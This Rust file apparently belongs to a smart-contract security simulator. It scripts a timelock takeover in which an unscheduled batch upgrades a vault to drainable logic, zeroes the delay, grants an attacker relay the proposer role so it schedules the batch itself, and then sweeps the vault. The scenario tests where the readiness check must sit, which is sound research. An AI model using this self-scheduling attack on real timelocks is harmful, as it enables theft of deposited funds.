//! Timelock takeover: a batch that was never scheduled upgrades the vault, zeroes the delay,
//! grants a relay the proposer role, and has the relay schedule the batch itself. Whether it
//! lands depends on where the single readiness check sits.

use super::{ExploitPlan, ExploitStep, ScenarioReport};
use crate::abi;
use crate::core::{Role, Timestamp};
use crate::protocols::timelock::{Batch, Operation};
use crate::protocols::vault::{
    DrainableVaultLogic, OwnerAuthority, StandardVaultLogic, WithdrawalPolicy,
};
use crate::utils::config::SimConfig;
use crate::utils::constants::WAD_U256;
use crate::world::{ScheduleRelay, World};
use alloy::primitives::{Address, Bytes, B256, U256};
use anyhow::{ensure, Context};
use std::sync::Arc;

pub const SCENARIO: &str = "timelock_takeover";
pub const GENESIS_TIME: Timestamp = 1_700_000_000;

pub const DEPLOYER: Address = Address::repeat_byte(0xde);
pub const PROPOSER: Address = Address::repeat_byte(0xc1);
pub const SWEEPER: Address = Address::repeat_byte(0x5e);
pub const ATTACKER: Address = Address::repeat_byte(0xa7);

pub fn vault_deposit() -> U256 {
    U256::from(10_000_000u64) * WAD_U256
}

#[derive(Debug, Clone)]
pub struct TakeoverSetup {
    pub world: World,
    pub scheduler: Address,
    pub vault: Address,
    pub standard_logic: Address,
    pub drainable_logic: Address,
    pub relay: Address,
    pub batch: Batch,
}

/// The self-scheduling batch. `relay` must schedule exactly this batch when called.
pub fn takeover_batch(
    scheduler: Address,
    vault: Address,
    drainable: Address,
    relay: Address,
) -> Batch {
    Batch::new(
        vec![
            Operation::call(vault, abi::vault_upgrade_to(drainable)),
            Operation::call(scheduler, abi::scheduler_update_delay(0)),
            Operation::call(scheduler, abi::scheduler_grant_role(Role::Proposer, relay)),
            Operation::call(relay, Bytes::new()),
        ],
        B256::ZERO,
    )
}

pub fn assemble(config: &SimConfig) -> anyhow::Result<TakeoverSetup> {
    config.validate().context("timelock scenario config")?;
    let mut world = World::new(GENESIS_TIME);
    let scheduler = world
        .deploy_scheduler(
            DEPLOYER,
            PROPOSER,
            config.timelock_delay_secs,
            config.max_timelock_delay_secs,
            config.readiness_check,
        )
        .context("deploy scheduler")?;
    let standard_logic = world.deploy_vault_logic(DEPLOYER, Arc::new(StandardVaultLogic));
    let vault = world
        .deploy_vault(
            DEPLOYER,
            OwnerAuthority::Scheduler(scheduler),
            SWEEPER,
            standard_logic,
            WithdrawalPolicy {
                limit: config.withdrawal_limit,
                cooldown_secs: config.withdrawal_cooldown_secs,
            },
        )
        .context("deploy vault")?;
    world.mint(vault, vault_deposit()).context("fund vault")?;

    let drainable_logic = world.deploy_vault_logic(ATTACKER, Arc::new(DrainableVaultLogic));
    let relay = world.predict_address(ATTACKER);
    let batch = takeover_batch(scheduler, vault, drainable_logic, relay);
    let relay_actor = ScheduleRelay::new(scheduler, batch.clone());
    let deployed = world.deploy_actor(ATTACKER, Arc::new(relay_actor));
    ensure!(
        deployed == relay,
        "relay landed at {deployed:#x}, expected {relay:#x}"
    );

    Ok(TakeoverSetup {
        world,
        scheduler,
        vault,
        standard_logic,
        drainable_logic,
        relay,
        batch,
    })
}

pub fn plan(setup: &TakeoverSetup) -> ExploitPlan {
    ExploitPlan::new(vec![
        ExploitStep::call(
            "execute unscheduled takeover batch",
            ATTACKER,
            setup.scheduler,
            abi::scheduler_execute(&setup.batch),
        ),
        ExploitStep::call(
            "sweep vault through replaced logic",
            ATTACKER,
            setup.vault,
            abi::vault_sweep_funds(),
        ),
    ])
}

pub fn run(config: &SimConfig) -> anyhow::Result<ScenarioReport> {
    let mut setup = assemble(config)?;
    let plan = plan(&setup);
    let attacker_before = setup.world.balance_of(ATTACKER);
    let vault_before = setup.world.balance_of(setup.vault);

    let run = plan.execute(&mut setup.world);

    let gain = setup
        .world
        .balance_of(ATTACKER)
        .saturating_sub(attacker_before);
    let loss = vault_before.saturating_sub(setup.world.balance_of(setup.vault));
    let report = ScenarioReport::from_run(SCENARIO, &plan, run, gain, loss);
    tracing::info!(
        "[SCENARIO] {} outcome={:?} gain={} readiness={}",
        SCENARIO,
        report.outcome,
        report.attacker_gain,
        config.readiness_check.as_str()
    );
    Ok(report)
}
